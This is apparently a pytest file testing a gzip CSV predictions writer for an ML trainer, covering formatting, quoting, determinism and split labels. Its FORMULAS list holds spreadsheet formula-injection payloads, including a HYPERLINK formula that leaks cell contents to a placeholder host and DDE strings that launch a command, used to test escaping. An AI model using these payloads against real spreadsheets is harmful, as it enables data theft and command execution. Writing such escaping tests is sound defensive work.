"""`predictions.csv.gz`, read by the csv module as any reader would."""

from __future__ import annotations

import csv
import gzip
import io
import math
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from numpy.typing import NDArray

from tests.composed import build_dataset
from tests.conftest import make_graph, make_settings, ring
from trainer.artifacts import predictions_file
from trainer.artifacts.predictions_file import label_texts, parts_of, predictions_csv
from trainer.dataset.vertex_set import VertexSet


def vertex_set(
    keys: list[str], collections: tuple[str, ...] = ("v",), collection_of: list[int] | None = None
) -> VertexSet:
    """Vertices with these keys, without features."""
    size = len(keys)
    encoded = np.array([key.encode() for key in keys], dtype=np.bytes_)
    collection = np.array(collection_of or [0] * size, dtype=np.int32)
    return VertexSet("v", collections, encoded, collection, np.zeros((size, 0), np.float32), [], None)


def rows_of(content: bytes) -> list[list[str]]:
    """The lines of the table, the header first."""
    return list(csv.reader(io.StringIO(gzip.decompress(content).decode(), newline="")))


def two(*second: float) -> NDArray[np.float64]:
    """Probabilities of two classes, given those of the second."""
    return np.array([[1 - value, value] for value in second])


def test_classes_have_a_probability_each() -> None:
    """The likeliest class is the prediction, by its name."""
    scores = np.array([[0.25, 0.5, 0.25], [0.75, 0.125, 0.125]])
    table = rows_of(
        predictions_csv(vertex_set(["a", "b"]), ["train", "test"], ["flat", ""], scores, ["down", "flat", "up"])
    )
    assert table == [
        ["_id", "part", "label", "prediction", "probability_down", "probability_flat", "probability_up"],
        ["v/a", "train", "flat", "flat", "0.25", "0.5", "0.25"],
        ["v/b", "test", "", "down", "0.75", "0.125", "0.125"],
    ]


def test_numbers_have_a_prediction_only() -> None:
    """A number stands in the label's own unit, with all digits that it has."""
    scores = np.array([43_000.123456789, -1.5e-9])
    table = rows_of(predictions_csv(vertex_set(["a", "b"]), ["val", "none"], ["", "7"], scores, None))
    assert table[0] == ["_id", "part", "label", "prediction"]
    assert [float(row[3]) for row in table[1:]] == scores.tolist()


@pytest.mark.parametrize(
    ("classes", "names"), [([False, True], ["false", "true"]), ([0, 1], ["0", "1"]), ([0.5, 2], ["0.5", "2"])]
)
def test_classes_are_spelt_as_in_the_documents(classes: list[Any], names: list[str]) -> None:
    """A boolean label is `true`, as in the JSON of its document and of metrics.json."""
    table = rows_of(predictions_csv(vertex_set(["a", "b"]), ["test"] * 2, [""] * 2, two(0.75, 0.25), classes))
    assert table[0][4:] == [f"probability_{name}" for name in names]
    assert [row[3] for row in table[1:]] == [names[1], names[0]]


def test_ids_name_the_collection_of_each_vertex() -> None:
    """A type of several collections keeps the document handles apart."""
    vertices = vertex_set(["a", "a", "b"], ("candles_btc", "candles_eth"), [0, 1, 0])
    table = rows_of(predictions_csv(vertices, ["train"] * 3, [""] * 3, two(0.1, 0.2, 0.3), [0, 1]))
    assert [row[0] for row in table[1:]] == ["candles_btc/a", "candles_eth/a", "candles_btc/b"]


@given(
    keys=st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), min_size=1, max_size=5),
    names=st.lists(st.text(st.characters(codec="utf-8"), min_size=1), min_size=2, max_size=2, unique=True),
)
def test_any_name_survives(keys: list[str], names: list[str]) -> None:
    """Commas, quotes and line ends in keys and class names are the reader's again."""
    table = rows_of(
        predictions_csv(vertex_set(keys), ["train"] * len(keys), names[:1] * len(keys), two(*[0.9] * len(keys)), names)
    )
    assert table[0][4:] == [f"probability_{name}" for name in names]
    assert [(row[0], *row[2:4]) for row in table[1:]] == [(f"v/{key}", *names) for key in keys]


FORMULAS = (
    '=HYPERLINK("http://h/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "-",
    "+",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_takes_no_text_for_a_formula(formula: str) -> None:
    """An apostrophe before it makes a text of it; by default the table holds what the documents hold."""
    scores, given = two(0.25, 0.75), (vertex_set([formula, "b"], ("",)), ["train", "test"], [formula, "up"])
    plain = rows_of(predictions_csv(*given, scores, [formula, "up"]))
    safe = rows_of(predictions_csv(*given, scores, [formula, "up"], spreadsheet_safe=True))
    assert [row[2] for row in plain[1:]] == [formula, "up"]
    assert [row[2] for row in safe[1:]] == [f"'{formula}", "up"]
    assert [row[3] for row in safe[1:]] == [f"'{formula}", "up"]
    assert plain[0] == safe[0] == ["_id", "part", "label", "prediction", f"probability_{formula}", "probability_up"]
    assert [row[4:] for row in safe] == [row[4:] for row in plain]


@given(st.lists(st.text(st.sampled_from("=+-@'\t\r\n ＝") | st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_the_apostrophe_can_be_cut_off_again(labels: list[str]) -> None:
    """One at the beginning of a text, and the text is as the documents hold it; none begins like a formula before."""
    vertices, scores = vertex_set([f"k{number}" for number, _ in enumerate(labels)]), two(*[0.5] * len(labels))
    table = rows_of(
        predictions_csv(vertices, ["train"] * len(labels), labels, scores, ["a", "b"], spreadsheet_safe=True)
    )
    cells = [row[2] for row in table[1:]]
    assert [cell.removeprefix("'") for cell in cells] == labels
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@") and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        return bool(text) and math.isfinite(float(text))
    except ValueError:
        return False


@pytest.mark.parametrize("label", ["-1", "+0.5", "-1.5e-9", "-.5"])
def test_a_negative_number_is_no_formula(label: str) -> None:
    """Neither as a label nor as a prediction."""
    given = vertex_set(["a", "b"]), ["val", "none"], [label, ""], np.array([-1.5, 2.0]), None
    assert predictions_csv(*given, spreadsheet_safe=True) == predictions_csv(*given)


def test_equal_predictions_give_equal_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the time nor a file name is in the file."""
    first = predictions_csv(vertex_set(["a"]), ["train"], ["1"], two(0.5), [0, 1])
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert predictions_csv(vertex_set(["a"]), ["train"], ["1"], two(0.5), [0, 1]) == first


def test_blocks_join_without_a_seam(monkeypatch: pytest.MonkeyPatch) -> None:
    """However many rows are made at once, the table is the same."""
    keys = [f"k{number}" for number in range(10)]
    scores = two(*(number / 10 for number in range(10)))
    whole = predictions_csv(vertex_set(keys), ["train"] * 10, keys, scores, [0, 1])
    monkeypatch.setattr(predictions_file, "_BLOCK", 3)
    assert rows_of(predictions_csv(vertex_set(keys), ["train"] * 10, keys, scores, [0, 1])) == rows_of(whole)


def test_no_vertices_leave_the_header() -> None:
    """A table without rows is still a table."""
    assert rows_of(predictions_csv(vertex_set([]), [], [], np.zeros((0, 2)), [0, 1])) == [
        ["_id", "part", "label", "prediction", "probability_0", "probability_1"]
    ]


@pytest.mark.parametrize(
    ("classes", "y", "expected"),
    [
        (["down", "up"], [1, 0, 0], ["up", "", "down"]),
        ([False, True], [1, 0, 1], ["true", "", "true"]),
        (["000", "007"], [0, 0, 1], ["000", "", "007"]),
        (None, [3.0, 0.0, -0.25], ["3", "", "-0.25"]),
        (None, [1e22, 0.0, 2.0**53], ["1e+22", "", "9007199254740992"]),
    ],
)
def test_labels_are_spelt_as_in_the_documents(classes: list[Any] | None, y: list[float], expected: list[str]) -> None:
    """A class by its text, a number without a point that the document does not have; empty without a label."""
    assert label_texts(classes, np.array(y), np.array([True, False, True])) == expected


def test_every_row_has_its_part() -> None:
    """The parts are those of the split; unlabelled, embargo and none are distinguished."""
    documents = [{"a": number % 5, "y": number % 2, "ts": number, "s": "train"} for number in range(40)]
    del documents[3]["y"]
    documents[39]["s"] = "other"
    documents[38]["s"] = "test"
    documents[37]["s"] = "val"
    stored = build_dataset(make_graph(documents, ring(40)), make_settings(split="attribute:s"))
    assert parts_of(stored)[-3:] == ["val", "test", "none"]
    assert parts_of(stored)[3] == "unlabelled"
    timed = build_dataset(make_graph(documents, ring(40)), make_settings(features="a", embargo=2))
    parts = parts_of(timed)
    assert {part: parts.count(part) for part in dict.fromkeys(parts)} == {
        "train": int(timed.split.mask("train").sum()),
        "unlabelled": 1,
        "embargo": 4,
        "val": int(timed.split.mask("val").sum()),
        "test": int(timed.split.mask("test").sum()),
    }
